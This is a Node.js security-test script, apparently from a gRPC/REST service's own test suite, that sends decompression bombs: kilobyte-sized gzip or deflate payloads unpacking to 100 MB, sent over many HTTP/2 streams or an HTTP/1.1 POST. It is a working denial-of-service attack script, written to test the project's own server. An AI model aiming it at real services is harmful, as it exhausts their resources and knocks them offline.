import { setTimeout as pause } from 'node:timers/promises';
import { deflateSync, gzipSync } from 'node:zlib';
import { callHeaders, FLAG, flagsOf, frame, onConnections, preface, report, TYPE, written } from './attacker.mjs';

/**
 * Messages of kilobytes that are unpacked to a hundred megabytes:
 *
 *   node test/security/attackers/bombs.mjs --port 8080 --protocol http2 --path /vectron.v1.VectronService/Upsert
 *
 * --protocol http (REST) or http2 (gRPC); --encoding gzip or deflate; so many --calls at once on each connection.
 */
const flags = flagsOf({
  protocol: 'http2',
  connections: 4,
  calls: 8,
  path: '/vectron.v1.VectronService/Upsert',
  token: '',
  encoding: 'gzip',
  unpacked: 100 << 20,
});
const zeros = Buffer.alloc(flags.unpacked, flags.protocol === 'http' ? ' ' : 0);
const bomb = flags.encoding === 'gzip' ? gzipSync(zeros) : deflateSync(zeros);
const FRAME_BYTES = 16_000;

/** A compressed gRPC message in frames of one stream. */
function message(stream) {
  const prefix = Buffer.alloc(5);
  prefix[0] = 1;
  prefix.writeUInt32BE(bomb.length, 1);
  const bytes = Buffer.concat([prefix, bomb]);
  const frames = [];
  for (let at = 0; at < bytes.length; at += FRAME_BYTES) {
    const isLast = at + FRAME_BYTES >= bytes.length;
    const part = bytes.subarray(at, at + FRAME_BYTES);
    frames.push(frame(TYPE.data, isLast ? FLAG.endStream : FLAG.none, stream, part));
  }
  return Buffer.concat(frames);
}

const more = { 'grpc-encoding': flags.encoding };
if (flags.token !== '') more.authorization = `Bearer ${flags.token}`;
const headers = callHeaders(flags.path, more);
const authorization = flags.token === '' ? '' : `authorization: Bearer ${flags.token}\r\n`;
const head = `POST ${flags.path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-encoding: ${flags.encoding}\r\n${authorization}content-length: ${bomb.length}\r\n\r\n`;

report(
  await onConnections(flags, async (socket, over) => {
    let sent = 0;
    if (flags.protocol === 'http') {
      if (await written(socket, Buffer.concat([Buffer.from(head), bomb]))) sent += 1;
      while (!over() && !socket.destroyed) await pause(5);
      return sent;
    }
    await written(socket, preface());
    // Room for what is sent on the connection, from the start.
    for (let call = 0; call < flags.calls && !over(); call += 1) {
      const stream = 2 * call + 1;
      const bytes = Buffer.concat([frame(TYPE.headers, FLAG.endHeaders, stream, headers), message(stream)]);
      if (!(await written(socket, bytes))) return sent;
      sent += 1;
    }
    await pause(500);
    return sent;
  }),
);
